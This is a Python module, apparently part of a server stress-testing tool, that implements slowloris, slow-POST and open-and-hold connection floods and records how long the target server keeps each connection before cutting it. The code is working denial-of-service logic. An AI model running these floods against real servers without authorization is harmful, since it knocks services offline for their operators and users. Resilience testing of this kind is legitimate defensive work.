"""Connection-holding attacks: slowloris, slow POST bodies, and plain open-and-hold floods.

These do not measure requests but how long the server lets a connection live. Each connection
records, when it ends, whether the server cut it (and after how long) or whether it was still
held when the phase ended. A cut connection is replaced, at most at the schedule's rate of new
connections per second.
"""

from __future__ import annotations

import asyncio
import contextlib
import time

from roost.siege.flood import MAX_PARALLEL_OPENS, Attack
from roost.siege.profiles import Slowloris
from roost.siege.sources import connect
from roost.siege.wire import BadResponse, ResponseParser


class HeldConnection(asyncio.Protocol):
    """A connection being dribbled into; remembers any answer the server gave before cutting."""

    def __init__(self, flood: HoldFlood, pending: bytes) -> None:
        self.flood = flood
        self.pending = bytearray(pending)
        self.opened_at = time.monotonic()
        self.parser = ResponseParser()
        self.answer: int | None = None
        self.transport: asyncio.Transport | None = None
        self.ended = False

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = transport  # type: ignore[assignment]

    def data_received(self, data: bytes) -> None:
        with contextlib.suppress(BadResponse):  # whatever it said, it is still holding or cutting
            for status in self.parser.feed(data):
                self.answer = status

    def connection_lost(self, exc: Exception | None) -> None:
        self.answer = self.answer or self.parser.eof()
        self.flood.on_lost(self)

    def dribble(self) -> None:
        """Send the next byte (slowloris sends its whole request this way, then more headers)."""
        if not self.pending:
            self.pending += self.flood.profile.trickle()
        if self.pending and self.transport is not None and not self.transport.is_closing():
            self.transport.write(bytes(self.pending[:1]))
            del self.pending[:1]


class HoldFlood(Attack):
    """Keeps ``connections`` connections open and dribbling until the phase ends."""

    profile: Slowloris

    def __init__(self, *args, interval_s: float = 1.0, **kw) -> None:
        super().__init__(*args, **kw)
        self.interval_s = interval_s

    async def run(self, started: float, until: float, stop: asyncio.Event) -> None:
        """Hold connections from ``started`` until ``until`` or stop, then close them all."""
        tasks = [asyncio.create_task(self._open_loop(started)), asyncio.create_task(self._drip())]
        try:
            async with asyncio.timeout(max(0.0, until - time.monotonic())):
                await stop.wait()
        except TimeoutError:
            pass
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)
            self.close()

    def close(self) -> None:
        now = time.monotonic()
        for conn in list(self._open):
            conn.ended = True
            self.stats.record_hold("held", now - conn.opened_at)
            if conn.transport is not None:
                conn.transport.abort()
        self._open.clear()

    def on_lost(self, conn: HeldConnection) -> None:
        if conn.ended:
            return
        conn.ended = True
        self._open.discard(conn)
        outcome = "cut" if conn.answer is None else str(conn.answer)
        self.stats.record_hold(outcome, time.monotonic() - conn.opened_at)

    async def _open_loop(self, started: float) -> None:
        tokens, last = 1.0, time.monotonic()
        tasks: set[asyncio.Task[None]] = set()
        while True:
            await asyncio.sleep(0.01)
            now = time.monotonic()
            rate = self.schedule.rate_at(now - started)
            tokens = min(tokens + (rate or 1e9) * (now - last), max(rate or 1e9, 1.0))
            last = now
            missing = self.connections - len(self._open) - self._opening
            room = MAX_PARALLEL_OPENS - self._opening
            for _ in range(int(min(missing, room, tokens))):
                if not self.budget.take():
                    break
                tokens -= 1
                task = asyncio.create_task(self._open_one(next(self._sources)))
                tasks.add(task)
                task.add_done_callback(tasks.discard)

    async def _open_one(self, source: str | None) -> None:
        self._opening += 1
        try:
            pending = self.profile.opening()
            _, conn = await connect(source, self.target, lambda: HeldConnection(self, pending))
        except (OSError, TimeoutError):
            self.stats.connect_failures += 1
            return
        finally:
            self._opening -= 1
        assert isinstance(conn, HeldConnection)
        self.stats.sent += 1
        self._open.add(conn)
        conn.dribble()

    async def _drip(self) -> None:
        while True:
            await asyncio.sleep(self.interval_s)
            for conn in list(self._open):
                conn.dribble()
